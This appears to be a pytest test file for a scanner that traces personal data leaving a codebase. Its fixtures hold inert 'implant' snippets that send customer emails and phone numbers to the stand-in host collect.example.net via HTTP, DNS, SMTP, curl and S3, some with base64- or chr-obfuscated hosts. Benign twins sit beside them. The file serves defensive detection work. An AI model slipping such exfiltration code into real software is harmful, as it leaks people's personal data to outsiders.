"""Personal data that code sends out: inert implants as somebody might slip them in, and benign twins beside each."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from waybill.exposure import FAMILIES, survey
from waybill.exposure.code.constants import fold, is_hidden
from waybill.exposure.code.linking import Flow
from waybill.exposure.code.program import Code, read
from waybill.exposure.snapshots import NotInspected
from waybill.model.register import Place, RegisterSnapshot

HEAD = """import requests, csv, io, json, base64
from django.contrib.auth import get_user_model
from shop.models import Customer
"""
HOST = "collect.example.net"

IMPLANTS = {
    "straight": {"a.py": HEAD + f"""
def nightly():
    rows = list(Customer.objects.values("email", "phone"))
    requests.post("https://{HOST}/x", json=rows)
"""},
    "hidden_host": {"a.py": HEAD + f"""
def tidy():
    where = base64.b64decode({__import__("base64").b64encode(f"https://{HOST}/s".encode())!r}).decode()
    for user in get_user_model().objects.all().iterator():
        requests.get(where, params={{"v": user.email}})
"""},
    "chr_host": {"a.py": HEAD + f"""
HOST = "".join(map(chr, {[ord(c) for c in f"https://{HOST}"]}))
def warm_cache():
    data = [c.phone for c in Customer.objects.filter(active=True)]
    requests.post(HOST, data=json.dumps(data))
"""},
    "three_modules": {
        "shop/reports.py": HEAD + """
def everybody():
    return Customer.objects.order_by("id")
""",
        "shop/export.py": "import csv, io\n" + """
def as_csv(rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([row.email, row.phone])
    return buffer.getvalue()
""",
        "shop/health.py": f"""
import urllib.request
from .reports import everybody
from .export import as_csv

class Heartbeat:
    def __init__(self):
        self.body = as_csv(everybody()).encode()
    def beat(self):
        urllib.request.urlopen("https://{HOST}/beat", data=self.body)
"""},
    "raw_sql": {"a.py": f"""
import http.client
from django.db import connection
def check():
    with connection.cursor() as cursor:
        cursor.execute("SELECT email, phone FROM shop_customer")
        found = cursor.fetchall()
    line = http.client.HTTPSConnection("{HOST}")
    line.request("POST", "/", body=str(found))
"""},
    "signal": {"a.py": f"""
import requests
from django.db.models.signals import post_save
from django.dispatch import receiver
from shop.models import Customer
@receiver(post_save, sender=Customer)
def index(sender, instance, **kwargs):
    requests.post("https://{HOST}", json={{"e": instance.email}})
"""},
    "mail": {"a.py": HEAD + f"""
import smtplib
from email.message import EmailMessage
def digest():
    letter = EmailMessage()
    letter["To"] = "box@{HOST}"
    letter.set_content("\\n".join(c.email for c in Customer.objects.all()))
    smtp = smtplib.SMTP("{HOST}")
    smtp.send_message(letter)
"""},
    "dns": {"a.py": HEAD + f"""
import socket
def resolve_all():
    for c in Customer.objects.all():
        socket.gethostbyname(c.phone + ".{HOST}")
"""},
    "program": {"a.py": HEAD + f"""
import subprocess
def rotate():
    rows = Customer.objects.values_list("email")
    subprocess.run(["curl", "-d", str(list(rows)), "https://{HOST}"])
"""},
    "getattr": {"a.py": HEAD + f"""
import importlib
def call():
    lib = importlib.import_module("requests")
    getattr(lib, "po" + "st")("https://{HOST}", json=list(Customer.objects.all()))
"""},
    "session": {"a.py": HEAD + f"""
class Client:
    def __init__(self):
        self.session = requests.Session()
    def push(self):
        self.session.post("https://{HOST}", json=[c.email for c in Customer.objects.all()])
"""},
    "cloud": {"a.py": HEAD + """
import boto3
def copy():
    s3 = boto3.client("s3")
    s3.put_object(Bucket="elsewhere", Key="k", Body=json.dumps(list(Customer.objects.values())))
"""},
    "sqlalchemy": {"a.py": f"""
import httpx
from sqlalchemy import select
from shop.models import Patient
def sync(session):
    people = session.execute(select(Patient)).scalars().all()
    httpx.post("https://{HOST}", json=[p.full_name for p in people])
"""},
    "generator": {"a.py": HEAD + f"""
def stream():
    for c in Customer.objects.all():
        yield c.email
def send():
    for batch in stream():
        requests.post("https://{HOST}", data=batch)
"""},
    "global_kept": {"a.py": HEAD + f"""
SEEN = []
def note():
    SEEN.extend(Customer.objects.values_list("phone", flat=True))
def flush():
    requests.put("https://{HOST}", json=SEEN)
"""},
}  # fmt: skip

TWINS = {
    "one_record": {"a.py": HEAD + f"""
def greet(pk):
    c = Customer.objects.get(pk=pk)
    requests.post("https://{HOST}", json={{"e": c.email}})
"""},
    "only_counts": {"a.py": HEAD + f"""
def metrics():
    requests.post("https://{HOST}", json={{"n": Customer.objects.count(), "m": len(Customer.objects.all())}})
"""},
    "no_persons": {"a.py": f"""
import requests
from shop.models import Product
def feed():
    requests.post("https://{HOST}", json=list(Product.objects.values("title", "price")))
"""},
    "hashed": {"a.py": HEAD + f"""
import hashlib
def audience():
    hashes = [hashlib.sha256(c.email.encode()).hexdigest() for c in Customer.objects.all()]
    requests.post("https://{HOST}", json=hashes)
"""},
    "kept_inside": {"a.py": HEAD + """
def report(path):
    with open(path, "w") as file:
        csv.writer(file).writerows(Customer.objects.values_list("email"))
"""},
    "other_program": {"a.py": HEAD + """
import subprocess
def sort():
    subprocess.run(["sort", "-u"], input=str(list(Customer.objects.all())))
"""},
    "reading_in": {"a.py": HEAD + f"""
def load():
    for row in requests.get("https://{HOST}/customers").json():
        Customer.objects.create(email=row["email"])
"""},
    "one_by_query": {"a.py": f"""
import requests
def charge(cursor, id):
    cursor.execute("SELECT email, phone FROM shop_customer WHERE id = %s", [id])
    requests.post("https://{HOST}", json=cursor.fetchone())
"""},
    "update": {"a.py": HEAD + f"""
def mark():
    done = Customer.objects.filter(active=False).update(active=True)
    requests.post("https://{HOST}", json={{"done": done}})
"""},
}  # fmt: skip


def flows(folder: Path, files: dict[str, str]) -> list[Flow]:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content)
    (code,) = read(folder)
    assert isinstance(code, Code)
    return code.flows


@pytest.mark.parametrize("name", IMPLANTS)
def test_implants(tmp_path: Path, name: str) -> None:
    found = flows(tmp_path, IMPLANTS[name])
    assert found
    if name != "cloud":
        assert {flow.exit.host for flow in found} == {HOST}
    assert all(flow.path[-1].line == flow.exit.line for flow in found)


@pytest.mark.parametrize("name", TWINS)
def test_twins(tmp_path: Path, name: str) -> None:
    assert flows(tmp_path, TWINS[name]) == []


def test_every_step_is_told(tmp_path: Path) -> None:
    (flow,) = flows(tmp_path, IMPLANTS["three_modules"])
    assert flow.path[0].file == "shop/reports.py"
    assert {step.file for step in flow.path} >= {"shop/reports.py", "shop/health.py"}
    assert flow.path[0].what == "reads Customer"


@pytest.mark.parametrize("name", ["hidden_host", "chr_host"])
def test_hidden_hosts(tmp_path: Path, name: str) -> None:
    (flow,) = flows(tmp_path, IMPLANTS[name])
    assert flow.exit.hidden


def test_the_register_says_where_data_may_go(tmp_path: Path) -> None:
    flows(tmp_path, IMPLANTS["straight"])
    family = FAMILIES["code"]
    now = datetime(2026, 3, 1, tzinfo=UTC)
    (finding,) = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now).findings
    assert f"sends Customer over HTTP to {HOST}" in finding.sentence.en
    assert [part.value for part in finding.parts if part.name == "step 1"] == ["a.py:6 reads Customer"]
    approved = RegisterSnapshot(places=(Place(id="mailer", patterns=(".example.net",), approved_egress=True),))
    assert not survey(family.read(str(tmp_path)), family.checks(), approved, now).findings


def test_moved_code_keeps_its_identity(tmp_path: Path) -> None:
    family = FAMILIES["code"]
    now = datetime(2026, 3, 1, tzinfo=UTC)
    flows(tmp_path, IMPLANTS["straight"])
    first = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now)
    (tmp_path / "a.py").write_text("# moved\n" * 30 + IMPLANTS["straight"]["a.py"])
    again = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now, before=first.open)
    assert (again.opened, again.closed) == ([], [])


def test_what_cannot_be_read_is_said(tmp_path: Path) -> None:
    (tmp_path / "broken.py").write_text("def f(:\n")
    (tmp_path / "zero.py").write_bytes(b"x = 1\0")
    (tmp_path / "deep.py").write_text("x = " + "(" * 5000 + ")" * 5000)
    (tmp_path / "long.py").write_bytes(b"#" * (5 << 20))
    (tmp_path / "round").symlink_to(tmp_path)
    gaps = [one for one in read(tmp_path) if isinstance(one, NotInspected)]
    assert {gap.what for gap in gaps} == {"broken.py", "zero.py", "deep.py", "long.py"}


@given(st.text(st.characters(max_codepoint=0x2FF), min_size=1, max_size=20))
def test_spellings_come_to_the_same(text: str) -> None:
    import ast
    import base64

    spellings = [
        repr(text),
        f"{text[:3]!r} + {text[3:]!r}",
        f"base64.b64decode({base64.b64encode(text.encode())!r}).decode()",
        f"''.join(map(chr, {[ord(c) for c in text]}))",
        f"''.join(chr(c) for c in {[ord(c) for c in text]})",
        f"{text[::-1]!r}[::-1]",
        f"bytes.fromhex({text.encode().hex()!r}).decode()",
        f"''.join([{', '.join(repr(c) for c in text)}])",
    ]
    for number, spelling in enumerate(spellings):
        node = ast.parse(spelling, mode="eval").body
        assert fold(node, {}) == text
        assert is_hidden(node) is (number in {2, 3, 4, 5, 6})
